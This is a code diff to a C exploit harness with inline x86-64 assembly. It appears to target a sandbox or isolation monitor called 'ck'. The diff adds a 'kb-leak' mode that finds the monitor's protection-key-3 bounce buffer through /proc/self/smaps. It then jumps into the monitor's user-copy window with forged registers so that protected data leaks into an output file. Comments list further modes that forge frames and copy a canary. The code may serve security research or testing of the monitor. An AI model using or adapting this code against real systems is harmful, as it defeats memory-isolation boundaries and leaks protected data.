@@ -41,6 +41,11 @@
  *           program's rdx: then a raw ARCH_SET_GS back to ck_tblk and a
  *           raw ARCH_GET_GS reach the host;
  *   core-jump EAX  RLIMIT_CORE raised to unlimited, then as jump;
+ *   kb-leak EAX  %xmm0 = KB_MARKER at the trapped kill (so ck's copy of the
+ *           entry frame leaves it in this thread's bounce buffer, pkey 3,
+ *           found in smaps), then a jump to `target` (ck_user_copy's
+ *           window) with r10 = that copy of %xmm0, r9 = OUTFILE+32, r8 = 8:
+ *           the "kbleak" oracle is the marker in OUTFILE;
  *   entry-prog entry-prog-alt entry-alt  jump to ck_gate_site_entry with
  *           eax = CK PKRU: RSP on a fake frame in program memory and r12
  *           that frame / r12 a forged frame on the altstack / RSP and r12
@@ -84,6 +89,8 @@
 #define MAGIC2		0x46505845U
 #define SW_OFF		464
 #define BV_OFF		512
+#define XSAVE_XMM0	160			/* in the fxsave part */
+#define KB_MARKER	0x4b424c45414b2121ULL	/* "!!KAELBK" */
 
 /* struct ucontext and sigcontext (x86-64), as byte offsets. */
 #define UC_STACK	16
@@ -186,6 +193,7 @@ struct jr {
 	uint64_t r9;		/* 72 */
 	uint64_t r10;		/* 80 */
 	uint64_t df;		/* 88: set EFLAGS.DF for the jump */
+	uint64_t xmm0;		/* 96: in %xmm0 at the trapped kill */
 };
 long gate_jump(struct jr *j);
 long gate_gs_plant(uint64_t base, uint64_t resume);
@@ -205,6 +213,7 @@ __asm__(
 	"	mov 56(%r15), %rdi\n"
 	"	mov $31, %esi\n"
 	"	mov $62, %eax\n"
+	"	movq 96(%r15), %xmm0\n"
 	"	syscall\n"
 	"1:	test %r13, %r13\n"
 	"	jnz gate_resume\n"
@@ -255,6 +264,32 @@ __asm__(
 	"	mov $15, %eax\n"
 	"	syscall\n"
 	"	jmp gate_resume\n");
+
+/*
+ * The start of the first mapping with protection key KEY in smaps (ck's
+ * bounce buffers are pkey 3), or 0.
+ */
+static uint64_t pkey_mapping(int key)
+{
+	unsigned long long lo = 0, a, b;
+	char line[256];
+	FILE *f = fopen("/proc/self/smaps", "r");
+	int k;
+
+	while (f && fgets(line, sizeof(line), f)) {
+		if (sscanf(line, "%llx-%llx ", &a, &b) == 2) {
+			lo = a;	/* a range line (field lines never parse so) */
+			continue;
+		}
+		if (sscanf(line, "ProtectionKey: %d", &k) == 1 && k == key) {
+			fclose(f);
+			return lo;
+		}
+	}
+	if (f)
+		fclose(f);
+	return 0;
+}
 
 static void try_canary(uint64_t canary)
 {
@@ -463,6 +498,29 @@ int main(int argc, char **argv)
 
 		logf_("jump to %#llx eax=%#llx to copy the canary\n",
 		      (unsigned long long)j.target, (unsigned long long)j.eax);
+		r = gate_jump(&j);
+		after_jump(r, gsbuf, canary);
+		return 0;
+	}
+	if (!strcmp(mode, "kb-leak")) {
+		uint64_t kb = pkey_mapping(3);
+		struct jr j = {
+			.target = sym(argc, argv, "target"),
+			.eax = argc > 3 ? strtoull(argv[3], 0, 0) : 0,
+			.pid = (uint64_t)getpid(),
+			.r8 = 8,
+			.r9 = (uint64_t)(uintptr_t)(out + 32),
+			.r10 = kb + XSAVE_XMM0,
+			.xmm0 = KB_MARKER,
+		};
+
+		if (!kb) {
+			logf_("no mapping with protection key 3\n");
+			return 3;
+		}
+		logf_("bounce buffer at %#llx; jump to %#llx eax=%#llx\n",
+		      (unsigned long long)kb, (unsigned long long)j.target,
+		      (unsigned long long)j.eax);
 		r = gate_jump(&j);
 		after_jump(r, gsbuf, canary);
 		return 0;
